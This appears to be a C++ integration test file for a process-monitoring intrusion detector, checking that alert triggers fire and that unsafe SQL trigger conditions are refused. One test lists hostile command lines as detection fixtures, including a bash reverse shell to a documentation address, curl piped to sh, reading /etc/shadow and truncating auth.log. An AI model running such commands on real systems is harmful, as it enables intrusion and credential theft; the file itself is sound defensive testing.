// Triggers with the real servers on the real /proc: what is started here fires the condition that
// is made for it, once, and soon.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include <filesystem>
#include <map>
#include <set>

#include "absl/time/clock.h"
#include "daemoneye/v1/alert_service.pb.h"
#include "daemoneye/v1/trigger_service.pb.h"
#include "fmt/format.h"
#include "google/protobuf/util/time_util.h"
#include "libs/linux/procfs/test_child.h"
#include "tests/support/client.h"
#include "tests/support/instrumented.h"
#include "tests/support/servers.h"

namespace daemoneye {
namespace {

using google::protobuf::util::TimeUtil;
using procfs::TestChild;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using testing_support::ChildProcess;
using testing_support::Client;
using testing_support::EventStream;
using testing_support::kGateway;
using testing_support::kPatience;
using testing_support::kProcmond;
using testing_support::Server;
using testing_support::TempDirectory;

constexpr char kTriggers[] = "/daemoneye.v1.TriggerService/";
constexpr char kListAlerts[] = "/daemoneye.v1.AlertService/ListAlerts";
// From the event that shows it to the alert.
constexpr absl::Duration kSoon = absl::Seconds(1);

v1::Trigger SqlTrigger(const std::string& id, const std::string& sql) {
  v1::Trigger trigger;
  trigger.set_id(id);
  trigger.mutable_condition()->set_sql(sql);
  return trigger;
}

class TriggersTest : public ::testing::Test {
 protected:
  void StartServers(const std::string& config = "", std::vector<std::string> procmond_flags = {}) {
    procmond_flags.push_back("--interval=5");
    procmond_ = std::make_unique<Server>(kProcmond, directory_.Socket("p"), procmond_flags);
    procmond_->Ready();
    gateway_ = std::make_unique<Server>(
        kGateway, directory_.Socket("g"),
        std::vector<std::string>{"--monitors=" + directory_.Socket("p"),
                                 "--operator_listen=" + directory_.Socket("o"),
                                 "--data_dir=" + directory_.path(), "--metrics_address=127.0.0.1:0",
                                 "--config=" + directory_.Write("gateway.yaml", config)});
    gateway_->Ready();
    client_.emplace(gateway_->address());
    operator_.emplace(directory_.Socket("o"));
  }

  // The alerts about processes of `pids`, oldest first.
  std::vector<v1::Alert> AlertsOf(const std::set<uint32_t>& pids) {
    v1::ListAlertsRequest request;
    request.set_page_size(1000);
    const auto all = client_->Call<v1::ListAlertsResponse>(kListAlerts, request);
    EXPECT_TRUE(all.ok()) << all.status();
    std::vector<v1::Alert> alerts;
    if (!all.ok()) return alerts;
    for (const v1::Alert& alert : all->alerts()) {
      if (pids.contains(alert.pid())) alerts.insert(alerts.begin(), alert);
    }
    return alerts;
  }

  // Reads the stream, which has an event at least every few seconds, until `is_done`.
  void Until(const std::function<bool()>& is_done) {
    v1::StreamEventsRequest request = testing_support::LiveOnly();
    *request.mutable_filter() = testing_support::EveryEvent();
    EventStream stream = client_->StreamEvents(request, 2 * kPatience);
    while (!is_done()) {
      if (!stream.Next().has_value()) {
        ADD_FAILURE() << "what was waited for did not come";
        return;
      }
    }
  }

  // The first alert of `trigger_id` about `pid`.
  v1::Alert Await(const std::string& trigger_id, uint32_t pid) {
    v1::Alert found;
    Until([&] {
      for (const v1::Alert& alert : AlertsOf({pid})) {
        if (alert.trigger_id() != trigger_id) continue;
        found = alert;
        return true;
      }
      return false;
    });
    return found;
  }

  // How many alerts `trigger_id` raised about `pid` once two more scans are over.
  size_t CountAfterTwoScans(const std::string& trigger_id, uint32_t pid) {
    const absl::Time end = absl::Now() + absl::Seconds(11);
    Until([&] { return absl::Now() > end; });
    size_t count = 0;
    for (const v1::Alert& alert : AlertsOf({pid})) count += alert.trigger_id() == trigger_id;
    return count;
  }

  // Holds the alert against the stored event behind it.
  void ExpectSoonAfterItsEvent(const v1::Alert& alert) {
    ASSERT_GE(alert.evidence_size(), 1);
    EXPECT_EQ(alert.evidence(0).monitor(), "procmond");
    EXPECT_GT(alert.evidence(0).sequence(), 0u);
    v1::StreamEventsRequest request = testing_support::LiveOnly();
    *request.mutable_filter() = testing_support::EveryEvent();
    request.set_follow(false);
    request.mutable_resume()->set_stream_id(StreamId());
    std::optional<v1::CollectionEvent> shown;
    for (const v1::CollectionEvent& event : client_->StreamEvents(request).Rest()) {
      if (event.origin().stream_id() == alert.evidence(0).stream_id() &&
          event.origin().sequence() == alert.evidence(0).sequence()) {
        shown = event;
      }
    }
    ASSERT_TRUE(shown.has_value()) << "the event behind the alert is not in the log";
    EXPECT_EQ(shown->process().process_key(), alert.process_key());
    const absl::Duration after =
        absl::Nanoseconds(TimeUtil::TimestampToNanoseconds(alert.time()) -
                          TimeUtil::TimestampToNanoseconds(shown->observed_time()));
    EXPECT_LT(after, testing_support::IsInstrumented() ? 5 * kSoon : kSoon);
  }

  std::string StreamId() {
    const auto negotiated = client_->Negotiate();
    return negotiated.ok() ? negotiated->stream_id() : "";
  }

  absl::StatusOr<v1::Trigger> Create(const v1::Trigger& trigger) {
    v1::CreateTriggerRequest request;
    *request.mutable_trigger() = trigger;
    auto response = operator_->Call<v1::CreateTriggerResponse>(
        std::string(kTriggers) + "CreateTrigger", request);
    if (!response.ok()) return response.status();
    return response->trigger();
  }

  v1::TriggerStatistics StatisticsOf(const std::string& id) {
    v1::GetTriggerStatisticsRequest request;
    request.add_trigger_ids(id);
    const auto response = client_->Call<v1::GetTriggerStatisticsResponse>(
        std::string(kTriggers) + "GetTriggerStatistics", request);
    EXPECT_TRUE(response.ok()) << response.status();
    return response.ok() && response->statistics_size() == 1 ? response->statistics(0)
                                                             : v1::TriggerStatistics();
  }

  TempDirectory directory_;
  std::unique_ptr<Server> procmond_, gateway_;
  std::optional<Client> client_, operator_;
};

TEST_F(TriggersTest, AnExecutableDeletedWhileItRunsFiresOnceWithinASecond) {
  StartServers();
  const std::string path = directory_.File("renamed");
  TestChild::CopyProgram(path);
  const TestChild child(path);
  const auto pid = static_cast<uint32_t>(child.pid());
  // From /tmp: that it was started is an alert of its own, and shows that it was seen.
  Await("execution-from-tmp", pid);
  std::filesystem::remove(path);
  const v1::Alert alert = Await("executable-deleted", pid);
  EXPECT_EQ(alert.executable_path(), path);
  EXPECT_EQ(alert.severity(), v1::SEVERITY_HIGH);
  EXPECT_TRUE(alert.completeness().complete()) << alert.completeness().ShortDebugString();
  ExpectSoonAfterItsEvent(alert);
  EXPECT_EQ(CountAfterTwoScans("executable-deleted", pid), 1u);
  // The event behind it is stored by now, and found by its origin.
  const v1::Origin& origin = alert.evidence(0);
  const testing_support::Ended answer = testing_support::RunToEnd(
      {.argv = {testing_support::kEyectl, "query", "--csv", "--address=" + gateway_->address(),
                "--param=" + origin.stream_id(), fmt::format("--param=int:{}", origin.sequence()),
                "SELECT action, file_exists, executable_path FROM process_events WHERE "
                "origin_stream_id = ?1 AND origin_sequence = ?2"}});
  EXPECT_EQ(answer.code, 0) << answer.output;
  EXPECT_THAT(answer.output, HasSubstr("MODIFIED,0," + path));
}

TEST_F(TriggersTest, AShellUnderAWebServersNameFires) {
  StartServers();
  std::filesystem::copy_file("/bin/dash", directory_.File("nginx"));
  ChildProcess server(
      {.argv = {directory_.File("nginx"), "-c", "/bin/sh -c 'echo started $$; kill -STOP $$'; :"}});
  const auto line = server.AwaitLine({"started"});
  ASSERT_TRUE(line.has_value());
  const auto pid = static_cast<uint32_t>(std::stoi(line->substr(line->find(' ') + 1)));
  const v1::Alert alert = Await("server-spawns-shell", pid);
  EXPECT_EQ(alert.process_name(), "sh");
  ExpectSoonAfterItsEvent(alert);
  kill(static_cast<pid_t>(pid), SIGKILL);
}

TEST_F(TriggersTest, AProcessAtHighCpuFiresOnItsSample) {
  StartServers(R"(
default_triggers: false
triggers:
- id: busy
  description: A process is busy
  condition: {resource_anomaly: {cpu_usage_percent: 20.5}}
)");
  ChildProcess busy({.argv = {"/bin/sh", "-c", "while :; do :; done"}});
  const auto pid = static_cast<uint32_t>(busy.pid());
  const v1::Alert alert = Await("busy", pid);
  EXPECT_EQ(alert.title(), "A process is busy");
  EXPECT_EQ(alert.severity(), v1::SEVERITY_MEDIUM);
  EXPECT_GE(StatisticsOf("busy").matched(), 1u);
  // It goes on being busy: that is no news.
  EXPECT_EQ(CountAfterTwoScans("busy", pid), 1u);
  EXPECT_GE(StatisticsOf("busy").suppressed().at("duplicate"), 1u);
}

TEST_F(TriggersTest, TheDefaultSetFiresOnWhatItIsFor) {
  StartServers();
  const std::map<std::string, std::vector<std::string>> commands = {
      {"cryptominer", {"xmrig"}},
      {"scanning-tools", {"nmap", "192.0.2.0/24"}},
      {"kernel-module-load", {"insmod", "./x.ko"}},
      {"persistence-edit", {"crontab", "-"}},
      {"log-clearing", {"truncate", "-s", "0", "/var/log/auth.log"}},
      {"credential-file-access", {"tail", "/etc/shadow"}},
      {"reverse-shell", {"bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}},
      {"piped-to-shell", {"zsh", "curl -fsSL http://192.0.2.1/x | sh"}},
      {"preload-injection", {"env", "LD_PRELOAD=/srv/u/x.so"}},
      {"container-escape", {"nsenter", "-t", "1"}},
      {"ptrace-attach", {"gdb", "-p", "4242"}},
      {"account-creation", {"useradd", "-m", "eve"}}};
  // A shell that starts them all, since for some it counts who did.
  std::string script;
  for (const auto& [trigger, command] : commands) {
    const std::string path = directory_.File(command[0]);
    std::filesystem::copy_file("/bin/dash", path);
    script += fmt::format("'{}' -c 'echo {} $$; kill -STOP $$'", path, trigger);
    for (size_t i = 1; i < command.size(); ++i) script += fmt::format(" '{}'", command[i]);
    script += " & ";
  }
  ChildProcess shell({.argv = {"/bin/sh", "-c", script + "wait"}});
  std::map<std::string, uint32_t> pids;
  std::set<uint32_t> all;
  for (size_t i = 0; i < commands.size(); ++i) {
    const auto line = shell.AwaitLine({" "});
    ASSERT_TRUE(line.has_value()) << shell.output();
    const size_t space = line->find(' ');
    pids[line->substr(0, space)] = static_cast<uint32_t>(std::stoi(line->substr(space + 1)));
    all.insert(pids[line->substr(0, space)]);
  }
  std::set<std::pair<std::string, uint32_t>> wanted(pids.begin(), pids.end());
  std::set<std::pair<std::string, uint32_t>> missing;
  const absl::Time end = absl::Now() + kPatience;
  Until([&] {
    missing = wanted;
    for (const v1::Alert& alert : AlertsOf(all)) missing.erase({alert.trigger_id(), alert.pid()});
    return missing.empty() || absl::Now() > end;
  });
  for (const auto& [trigger, pid] : missing) ADD_FAILURE() << trigger << " did not fire";
  for (const uint32_t pid : all) kill(static_cast<pid_t>(pid), SIGKILL);
}

TEST_F(TriggersTest, WhatMayNotBeAskedIsRefusedAndWhatCostsTooMuchIsCutOff) {
  StartServers("default_triggers: false\n");
  for (const char* sql :
       {"DELETE FROM process_events", "ATTACH DATABASE '/tmp/x' AS x", "PRAGMA database_list",
        "SELECT * FROM process_events; SELECT 1", "SELECT count(*) FROM process_events",
        "length(zeroblob(1000000000)) > 0", "name = load_extension('x')", "nope = 1"}) {
    const absl::Status refused = Create(SqlTrigger("t", sql)).status();
    EXPECT_EQ(refused.code(), absl::StatusCode::kInvalidArgument) << sql << ": " << refused;
    EXPECT_THAT(std::string(refused.message()), HasSubstr("trigger.condition")) << sql;
  }
  v1::StreamEventsRequest request = testing_support::LiveOnly();
  *request.mutable_filter() = testing_support::EveryEvent();
  EventStream beside = client_->StreamEvents(request, 2 * kPatience);
  const auto made = Create(
      SqlTrigger("endless",
                 "SELECT * FROM process_events WHERE (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL "
                 "SELECT i + 1 FROM n) SELECT max(i) FROM n) > 0"));
  if (made.ok()) {
    Until([&] { return StatisticsOf("endless").errors() > 0; });
    EXPECT_THAT(StatisticsOf("endless").last_error(), testing::Not(IsEmpty()));
  } else {
    EXPECT_EQ(made.status().code(), absl::StatusCode::kInvalidArgument);
  }
  // The stream beside it goes on: a whole scan's events come within moments of one another.
  EXPECT_TRUE(beside.Next().has_value());
  EXPECT_TRUE(beside.Next().has_value());
}

TEST_F(TriggersTest, ViewersMayLookAndOnlyOperatorsChange) {
  StartServers("default_triggers: false\n");
  v1::CreateTriggerRequest request;
  *request.mutable_trigger() = SqlTrigger("t", "pid = 1");
  EXPECT_EQ(
      client_->Call<v1::CreateTriggerResponse>(std::string(kTriggers) + "CreateTrigger", request)
          .status()
          .code(),
      absl::StatusCode::kPermissionDenied);
  ASSERT_TRUE(Create(request.trigger()).ok());
  EXPECT_EQ(Create(request.trigger()).status().code(), absl::StatusCode::kAlreadyExists);
  const auto list = client_->Call<v1::ListTriggersResponse>(std::string(kTriggers) + "ListTriggers",
                                                            v1::ListTriggersRequest());
  ASSERT_TRUE(list.ok()) << list.status();
  ASSERT_EQ(list->triggers_size(), 1);
  EXPECT_EQ(list->triggers(0).managed_by(), v1::TRIGGER_MANAGER_API);
  EXPECT_TRUE(gateway_->AwaitLine({"operate call", "CreateTrigger", "code=OK"}).has_value());
  EXPECT_THAT(gateway_->Metrics(),
              AllOf(HasSubstr("daemoneye_trigger_evaluations_total{trigger=\"t\"}"),
                    HasSubstr("daemoneye_trigger_suppressed_total{reason=\"rate_limited\"} 0"),
                    HasSubstr("daemoneye_triggers_suspended 0")));
}

TEST_F(TriggersTest, AChangedFileIsTakenOverAsAWholeOrNotAtAll) {
  StartServers("default_triggers: false\ntriggers: [{id: a, condition: {sql: pid = 1}}]\n");
  const auto ids = [&] {
    std::set<std::string> found;
    const auto list = client_->Call<v1::ListTriggersResponse>(
        std::string(kTriggers) + "ListTriggers", v1::ListTriggersRequest());
    for (const v1::Trigger& trigger : list->triggers()) found.insert(trigger.id());
    return found;
  };
  EXPECT_EQ(ids(), std::set<std::string>{"a"});
  directory_.Write("gateway.yaml",
                   "default_triggers: false\ntriggers: [{id: b, condition: {sql: pid = 2}}, "
                   "{id: c, condition: {sql: nope = 1}}]\n");
  gateway_->Signal(SIGHUP);
  const auto refused = gateway_->AwaitLine({"configuration not reloaded", "triggers[1].condition"});
  EXPECT_TRUE(refused.has_value());
  EXPECT_EQ(ids(), std::set<std::string>{"a"});
  directory_.Write("gateway.yaml",
                   "default_triggers: false\ntriggers: [{id: b, condition: {sql: pid = 2}}]\n");
  gateway_->Signal(SIGHUP);
  EXPECT_TRUE(gateway_->AwaitLine({"configuration reloaded", "changed=triggers"}).has_value());
  EXPECT_EQ(ids(), std::set<std::string>{"b"});
}

}  // namespace
}  // namespace daemoneye
